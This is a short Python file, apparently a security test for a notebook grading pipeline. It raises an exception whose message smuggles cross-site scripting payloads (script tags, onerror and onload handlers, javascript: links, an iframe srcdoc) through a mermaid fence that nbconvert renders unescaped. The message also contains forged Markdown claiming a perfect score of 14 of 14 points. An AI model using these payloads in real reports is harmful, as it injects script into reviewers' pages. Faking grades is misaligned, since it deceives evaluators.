"""A diagram in an exception.

The comment that quotes it is Markdown, and nbconvert puts what stands between "```mermaid" and "```" into the page as it is. Line
breaks in the message make the fence; headings, tables and lists besides pretend that somebody gave full marks.
"""
# seen: 14 of 14 points
# answers: square_sum

# %% attack
MESSAGE = """

```mermaid
<script>alert(1)</script>
<img src=x onerror=alert(2)>
```

# 14 of 14 points

| a | b |
|---|---|
| <svg onload=alert(3)> | [here](javascript:alert(4)) |

[here]: javascript:alert(5)
    <iframe srcdoc="<script>alert(6)</script>"></iframe>
"""


def mischief():
    raise ValueError(MESSAGE)
